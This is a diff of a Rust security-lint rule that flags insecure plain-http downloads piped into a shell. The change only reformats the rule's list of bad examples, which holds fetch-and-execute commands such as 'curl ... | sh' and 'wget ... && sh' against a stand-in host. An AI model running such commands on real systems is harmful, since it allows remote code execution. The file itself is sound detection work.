@@ -26,7 +26,11 @@ pub(super) const RULES: &[Rule] = &[
                       Use an https address, and check the content before it is used.",
         remediation: "Use https, and check a signature or checksum before use.",
         good: &["curl -s http://localhost:8080/health", "curl -s http://e.example/x.json", "curl http://127.1/x | sh"],
-        bad: &["curl -s http://e.example/x.sh | sh", "wget http://e.example/x -O f && sh f", "pip install -i http://e.example/simple x"],
+        bad: &[
+            "curl -s http://e.example/x.sh | sh",
+            "wget http://e.example/x -O f && sh f",
+            "pip install -i http://e.example/simple x",
+        ],
         check: plain_to_sink,
     },
     Rule {
